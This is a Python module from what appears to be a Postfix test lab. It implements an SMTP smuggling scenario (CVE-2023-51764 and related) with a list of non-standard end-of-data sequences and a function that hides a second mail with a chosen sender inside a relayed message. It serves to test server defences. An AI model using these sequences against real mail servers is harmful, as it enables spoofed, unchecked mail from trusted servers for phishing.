"""SMTP smuggling: a message that contains a second one after a sequence that resembles the end of data.

RFC 5321 section 4.1.1.4 knows one end of data, `<CR><LF>.<CR><LF>`. Where the server that sends takes another
sequence for content, and the one that receives takes it for the end, what follows is read as commands: a mail that
nobody has checked, from a server that is trusted (CVE-2023-51764 for Postfix, 51765 for Sendmail, 51766 for Exim).
"""

from __future__ import annotations

import re

from postfix_lab.errors import InputError
from postfix_lab.scenario.misbehaviour.change import (
    Change,
    as_misbehaviour,
    command_at,
    message_at,
    verbatim_message,
    wire_text,
    with_steps,
)
from postfix_lab.smtp.dialogue import Burst, Command, Dialogue

SMUGGLING = (
    "<LF>.<LF>",
    "<LF>.<CR><LF>",
    "<CR><LF>.<LF>",
    "<LF>.<CR>",
    "<CR>.<LF>",
    "<CR>.<CR>",
    "<CR>.<CR><LF>",
    "<CR><LF>.<CR>",
    "<LF><LF>.<CR><LF>",
    "<CR><LF>.<CR><CR><LF>",
    "<CR><LF><NUL>.<CR><LF>",
    "<CR><LF>.<NUL><CR><LF>",
    "<CR><LF><NUL>.<LF>",
)
"""The known sequences in the notation of Postfix. `<CR><CR><LF>.<CR><LF>` is none: it contains the true end of data."""
_NAMED = {"CR": "\r", "LF": "\n", "NUL": "\0"}
_NAME = re.compile("<(CR|LF|NUL)>")


def expand_octet_names(text: str) -> str:
    """The text with `<CR>`, `<LF>` and `<NUL>` replaced by these octets."""
    return _NAME.sub(lambda found: _NAMED[found[1]], text)


def parse_octets(sequence: str) -> str:
    r"""The octets of a sequence like `<CR><LF>.<LF>`; raises InputError for any other text.

    >>> parse_octets("<CR><LF>.<NUL><LF>")
    '\r\n.\x00\n'
    """
    octets = expand_octet_names(sequence)
    if not sequence.isascii() or not sequence.isprintable() or not octets or set("<>") & set(octets):
        raise InputError(f"{sequence!r} is no sequence of octets; write it with <CR>, <LF> and <NUL>, as in <LF>.<LF>")
    return octets


@as_misbehaviour
def smuggled(sequence: str = "<LF>.<LF>", *, sender: str = "smuggled@good.example") -> Change:
    """Put a second mail, from `sender` to the last recipient, into the message after that sequence.

    All of it is sent at once, as by a server that relays the message. If the sequence ends the data, there are
    replies to MAIL, RCPT, DATA and a second MESSAGE, else one to one message; postconf `smtpd_forbid_bare_newline`.
    """
    octets = parse_octets(sequence)

    def change(dialogue: Dialogue) -> Dialogue:
        place, message = message_at(dialogue, "smuggled")
        _, recipient = command_at(dialogue, "RCPT", "smuggled")
        second = f"From: <{sender}>\nSubject: smuggled\n\nNobody has checked this message.\n"
        parts = (
            verbatim_message(wire_text(message.content, end=False) + octets),
            Command(f"MAIL FROM:<{sender}>", "MAIL"),
            recipient,
            Command("DATA", "DATA"),
            verbatim_message(wire_text(second)),
        )
        return with_steps(dialogue, place, [Burst(parts, sure=1, stage="MESSAGE")])

    return change
